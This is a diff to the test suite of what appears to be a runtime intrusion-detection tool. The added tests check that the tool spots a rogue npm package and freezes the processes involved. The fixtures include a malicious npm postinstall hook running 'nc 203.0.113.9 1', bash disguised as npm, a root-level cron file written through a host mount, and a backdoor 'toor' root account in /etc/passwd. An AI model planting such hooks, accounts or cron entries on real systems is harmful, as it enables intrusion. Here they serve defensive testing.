@@ -102,6 +102,25 @@ def test_a_package_brings_a_script(web: Spot, tell: Tell) -> None:
         report.again("Which package brings", hides="evil")
 
 
+def test_an_installation_is_stopped_on_a_host(booted_host: Host, tell: Tell) -> None:
+    host = booted_host
+    host.write(
+        "/srv/app/node_modules/evil/package.json", '{\n "scripts": {\n  "postinstall": "nc 203.0.113.9 1"\n }\n}\n'
+    )
+    host.run("cp /bin/bash /usr/bin/npm")
+    npm = host.start("npm", "-c", "sh -c 'tail -f /etc/passwd; true' & wait")
+    other = host.start("tail", "-f", "/etc/group")
+    host.wait_until(lambda: "passwd" in host.run("ps -C tail -o args= || true"), "the script has started its program")
+    pid = int(host.run("pgrep -fx 'tail -f /etc/passwd'"))
+    with tell(Spot(host).fields(pid), rule=NPM, host=host) as report:
+        report.look("Which package brings", shows=["evil/package.json:3:", "nc 203.0.113.9 1"], seconds=90)
+        report.looks(shows="npm", seconds=60)
+        report.contain("freeze them", state=lambda: [host.state(npm), host.state(pid)], becomes=["T", "T"])
+        assert host.state(other) == "S", "a bystander was stopped"
+        assert (Spot(host).evidence / report.uid / f"{pid}.exe").exists()
+        report.undo(state=lambda: [host.state(npm), host.state(pid)], becomes=["S", "S"])
+
+
 def test_the_nodes_files_are_reached(node: Node, tell: Tell) -> None:
     spot = privileged(node, mounts=({"container_path": "/host", "host_path": "/"},))
     node.write("/etc/cron.d/escape", "* * * * * root id\n")
@@ -134,11 +153,12 @@ def test_a_proxy_of_a_container(web: Spot, tell: Tell) -> None:
 
 @pytest.mark.parametrize(
     ("rule", "program", "package", "cve"),
-    [(POLKIT, "/usr/bin/pkexec", "pkexec", "CVE-2021-4034"), (SUDO, "/usr/bin/sudo", "sudo", "CVE-2021-3156")],
+    [(POLKIT, "/usr/bin/pkexec", "policykit-1", "CVE-2021-4034"), (SUDO, "/usr/bin/sudo", "sudo", "CVE-2021-3156")],
 )
 def test_a_hole_in_an_image(web: Spot, tell: Tell, rule: str, program: str, package: str, cve: str) -> None:
     web.write(program, b"#!/bin/sh\n", 0o4755)
     web.write("/var/lib/dpkg/status", f"Package: x\nVersion: 1\n\nPackage: {package}\nStatus: ok\nVersion: 1.8.31-1\n")
+    web.write(f"/var/lib/dpkg/info/{package}:amd64.list", f"/.\n{program}\n")
     log = f"/usr/share/doc/{package}/changelog.Debian.gz"
     web.write(log, gzip.compress(f"  * Fix {cve}\n".encode()))
     web.write("/etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")
@@ -180,3 +200,7 @@ def test_root_on_a_host(booted_host: Host, tell: Tell) -> None:
     report = tell(spot.fields(tail(spot)), rule=SUDO, host=booted_host)
     report.look("Is the hole closed", shows=["-rwsr-xr-x", "CVE-2021-3156"])
     report.look("Did it give them root", shows=["toor:x:0:0", "/opt/helper", "/etc/passwd", "tail -f"])
+    # With a login in the alert, what runs in it is asked for instead.
+    report = tell(spot.fields(tail(spot)) | {"user.loginuid": 4294967295 - 1}, rule=SUDO, host=booted_host)
+    report.look("Is the hole closed", shows="-rwsr-xr-x")
+    report.look("Did it give them root", shows=["toor:x:0:0", "/opt/helper"], hides="tail -f")
